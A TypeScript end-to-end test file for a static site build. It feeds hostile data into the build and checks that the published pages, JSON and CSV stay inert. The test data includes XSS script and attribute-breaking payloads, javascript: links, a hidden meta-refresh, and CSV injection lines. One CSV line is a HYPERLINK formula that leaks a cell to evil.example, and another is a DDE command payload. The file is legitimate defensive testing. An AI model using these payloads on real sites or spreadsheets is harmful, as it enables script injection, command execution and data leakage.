/**
 * Hostile data: text fields carrying markup, script URLs, attribute breakers, very long strings, right-to-left text
 * and emoji are published as text — never executed, never breaking the layout — and invisible or unsafe content is
 * refused by the validator.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import Papa from 'papaparse';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Browser } from 'playwright-core';
import { launch } from './browser.ts';
import { serveStatic } from './server.ts';
import { FIXTURES, readFolder, unseal, writeFolder } from '../helpers/files.ts';
import { seedPublicFields, type Placed } from '../helpers/public-fields.ts';
import { E2E_EPOCH } from './global-setup.ts';
import { htmlPages } from './pages.ts';

const root = resolve(import.meta.dirname, '..', '..');
const SCRIPT = '<script>window.pwned=1</script>';
const BREAKER = '" onerror="window.pwned=2" x="';
const LONG = '诚'.repeat(40) + 'A'.repeat(400);
const RTL = 'مرحبا بالعالم';
const EMOJI = '👍🏽守信';
const JS_URL = 'javascript:window.pwned=3';
/** Spreadsheet formulas a journalist's Excel or WPS would run (OWASP CSV injection). */
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")';
const DDE = "+cmd|'/C calc'!A0";
/** A GFM table whose code span hid a meta refresh from a validator without GFM (issue 15). */
const GFM_META =
	'\n\n| 项目 | 说明 |\n|---|---|\n| `x|<meta http-equiv="refresh" content="1;url=https://evil.example/">` | 是 |\n\n&lt;script&gt;window.pwned=4&lt;/script&gt; [出处](https://example.org/ "标题")\n';

let work: string;
let dist: string;
let browser: Browser;
let url: string;
let close: () => void;
/** Markup typed into every public free-text field: an element with an event handler, numbered by field. */
const TAGGED = (n: number) => `<b onclick=${n}>`;
let tagged: Placed[];

function build(dataDir: string, out: string) {
	return spawnSync('node', ['scripts/build.ts'], {
		cwd: root,
		env: {
			...process.env,
			SOURCE_DATE_EPOCH: E2E_EPOCH,
			DATA_DIR: dataDir,
			OUT_DIR: out,
			CACHE_DIR: join(out, '..', 'cache'),
			ASTRO_CACHE_DIR: join(out, '..', 'astro'),
		},
		encoding: 'utf8',
	});
}

beforeAll(async () => {
	work = mkdtempSync(join(tmpdir(), 'xy-hostile-'));
	const data = join(work, 'data');
	cpSync(join(FIXTURES, 'valid'), data, { recursive: true });
	// The hostile rows change the released quarter's results: without its seal that is a warning, not a refused build.
	unseal(data);
	const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
	writeFileSync(
		join(data, 'unit-names.csv'),
		`单位编号,名称,启用日期,停用日期\nt1,${csvCell(SCRIPT)},,\nt2,${csvCell(LONG.slice(0, 60))},,\na1,${csvCell(RTL)},,\nb1,${csvCell(EMOJI)},,\n`,
	);
	// The hostile facts, and a 无 row for every other cell, so that the released quarter stays complete: the fixture's
	// 无 rows but the one for t2 3.6 (a fact now), and one for each cell of the fixture's facts replaced here.
	const nothing = readFileSync(join(data, 'evidence', '2022-Q1.csv'), 'utf8')
		.split(/\r?\n/)
		.filter((l) => /^n\d+-\d+,/.test(l) && !l.includes(',t2,3.6,'));
	writeFileSync(
		join(data, 'evidence', '2022-Q1.csv'),
		[
			'记录编号,单位编号,指标编号,类型,日期,数量,得分,事项,来源,理由',
			`e1,t1,1.1,完成,2022-01-15,,,${csvCell(BREAKER)},${csvCell(JS_URL)},`,
			`e2,t2,3.6,事项,2022-02-10,3,,${csvCell(LONG.slice(0, 300))},信用办,`,
			`e3,t2,3.6,事项,2022-02-11,1,,${csvCell(FORMULA)},${csvCell(DDE)},`,
			...nothing,
			...['t1,3.6', 't1,2.1', 'a1,3.1', 'b1,1.3'].map((cell, i) => `x${i},${cell},无,,,,,,`),
			'',
		].join('\n'),
	);
	const story = join(data, 'exemplars', 'stories', 'c1.mdx');
	writeFileSync(story, readFileSync(story, 'utf8') + GFM_META);
	// And markup in every other free-text field the site publishes (every column the schemas mark public).
	const seeded = seedPublicFields(readFolder(data), TAGGED, []);
	tagged = seeded.placed;
	writeFolder(data, seeded.files);
	dist = join(work, 'dist');
	const r = build(data, dist);
	if (r.status !== 0) throw new Error(r.stdout + r.stderr);
	browser = await launch();
	const s = await serveStatic(dist);
	url = s.url;
	close = () => s.server.close();
});
afterAll(async () => {
	await browser?.close();
	close?.();
	rmSync(work, { recursive: true, force: true });
});

describe('hostile text in data files', () => {
	it('is escaped in every page: no injected element, attribute or link', () => {
		for (const page of htmlPages(dist)) {
			const html = readFileSync(join(dist, page, page.endsWith('/') ? 'index.html' : ''), 'utf8');
			// Inside a quoted attribute value (an aria-label, say) "<script>" is inert text; everywhere else it must be escaped.
			expect(html.replace(/="[^"]*"/g, '=""')).not.toContain(SCRIPT);
			expect(html).not.toContain('onerror="window.pwned');
			expect(html).not.toMatch(/href="javascript:/i);
		}
		const unit = readFileSync(join(dist, 'units', 't1', 'index.html'), 'utf8');
		expect(unit).toContain('&lt;script&gt;window.pwned=1&lt;/script&gt;');
	});
	it('runs no injected code and shows the text as written', async () => {
		const page = await browser.newPage({ viewport: { width: 390, height: 800 } });
		let dialogs = 0;
		page.on('dialog', (d) => {
			dialogs++;
			void d.dismiss();
		});
		for (const path of ['/', '/grades/2022-Q1/', '/units/t1/', '/units/t2/', '/units/a1/', '/units/b1/']) {
			await page.goto(url + path);
			expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
			// Nothing widens the page beyond the phone's screen: long text wraps, wide tables scroll inside their box.
			expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
		}
		await page.goto(url + '/units/t1/');
		// t1's name is the script, with the markup of the public-field step after it (see below), both as text.
		expect(await page.locator('h1').textContent()).toMatch(
			new RegExp(`^${SCRIPT.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}（<b onclick=\\d+>）$`),
		);
		expect(await page.locator('main').textContent()).toContain(BREAKER);
		await page.goto(url + '/units/b1/');
		expect(await page.locator('h1').textContent()).toBe(EMOJI);
		expect(dialogs).toBe(0);
		await page.close();
	});
});

describe('markup in every public text field (issue 15)', () => {
	it('is text wherever it is published: escaped in pages, as written in JSON, never an element', () => {
		const texts = readdirSync(dist, { recursive: true, encoding: 'utf8' })
			.filter((f) => /\.(html|json|csv|xml)$/.test(f))
			.map((f) => [f, readFileSync(join(dist, f), 'utf8')] as const);
		// Inside a quoted attribute value (an aria-label, a title) the markup is inert text; everywhere else it is escaped.
		for (const [f, text] of texts)
			if (f.endsWith('.html')) expect(text.replace(/="[^"]*"/g, '=""'), f).not.toMatch(/<b onclick=/i);
		const escaped = (v: string) => v.replace(/</g, '&lt;').replace(/>/g, '&gt;');
		const reached = tagged.filter((p) =>
			texts.some(([f, text]) => text.includes(f.endsWith('.html') ? escaped(p.value) : p.value)),
		);
		// Most fields are published by this fixture's as-of date (not: a candidate's private fields, a repaired record …).
		expect(reached.length, tagged.map((p) => p.where).join(' ')).toBeGreaterThan(tagged.length / 2);
	});
});

describe('hostile Markdown and spreadsheet formulas (issue 15)', () => {
	it('renders a story through the allowlist: no meta refresh, no markup from entities, the code span intact', () => {
		for (const page of htmlPages(dist)) {
			const html = readFileSync(join(dist, page, page.endsWith('/') ? 'index.html' : ''), 'utf8');
			// The only http-equiv on a page is the site's own Content-Security-Policy.
			expect(html).not.toMatch(/<meta[^>]*http-equiv="(?!Content-Security-Policy")/i);
		}
		const profile = readFileSync(join(dist, 'exemplars', '2022', 'c1', 'index.html'), 'utf8');
		expect(profile).toContain(
			'<code>x|&#x3C;meta http-equiv="refresh" content="1;url=https://evil.example/"></code>',
		);
		expect(profile).toContain('&#x3C;script>window.pwned=4&#x3C;/script>');
		expect(profile).toContain('<a href="https://example.org/" title="标题">出处</a>');
	});

	it('stays on the profile page: nothing redirects it', async () => {
		const page = await browser.newPage();
		await page.goto(url + '/exemplars/2022/c1/');
		await page.waitForTimeout(2000);
		expect(page.url()).toBe(url + '/exemplars/2022/c1/');
		expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
		await page.close();
	});

	it('publishes no live formula in any CSV file, and the original text in JSON', () => {
		const csvFiles = readdirSync(join(dist, 'data'), { recursive: true, encoding: 'utf8' }).filter((f) =>
			f.endsWith('.csv'),
		);
		expect(csvFiles.length).toBeGreaterThan(5);
		for (const f of csvFiles) {
			const rows = Papa.parse<string[]>(readFileSync(join(dist, 'data', f), 'utf8').replace(/^\uFEFF/, ''), {
				skipEmptyLines: true,
			}).data;
			for (const cell of rows.flat())
				if (/^[=+\-@\t\r]/.test(cell)) expect(cell, f).toMatch(/^[+-]?\d+(\.\d+)?$/);
		}
		const evidenceCsv = readFileSync(join(dist, 'data', 'evidence', '2022-Q1.csv'), 'utf8');
		expect(evidenceCsv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
		expect(evidenceCsv).toContain(`'${DDE}`);
		const evidenceJson = readFileSync(join(dist, 'data', 'evidence', '2022-Q1.json'), 'utf8');
		expect(evidenceJson).toContain(JSON.stringify(FORMULA));
	});
});

describe('the validator refuses what must not be published', () => {
	it('refuses a right-to-left override hidden in a name, and a javascript: link or an image in a story', () => {
		const data = join(work, 'bad');
		cpSync(join(FIXTURES, 'valid'), data, { recursive: true });
		writeFileSync(
			join(data, 'unit-names.csv'),
			'单位编号,名称,启用日期,停用日期\nt1,甲\u202E镇,,\nt2,乙镇,,\na1,区甲局,,\nb1,区乙办,,\n',
		);
		const story = readFileSync(join(data, 'exemplars', 'stories', 'c1.mdx'), 'utf8');
		writeFileSync(
			join(data, 'exemplars', 'stories', 'c1.mdx'),
			story + '\n[详情](javascript:alert(1))\n\n![照片](https://example.com/x.png)\n',
		);
		const r = spawnSync('node', ['scripts/validate.ts'], {
			cwd: root,
			env: { ...process.env, DATA_DIR: data },
			encoding: 'utf8',
		});
		expect(r.status).toBe(1);
		expect(r.stdout).toContain(`${data}/unit-names.csv:2:2: 第 2 行第 2 列（名称）：含有不可见字符 U+202E`);
		expect(r.stdout).toMatch(/c1\.mdx:\d+:1: 链接地址 "javascript:alert\(1\)" 不允许/);
		expect(r.stdout).toContain('正文中不能插入图片');
	});
});
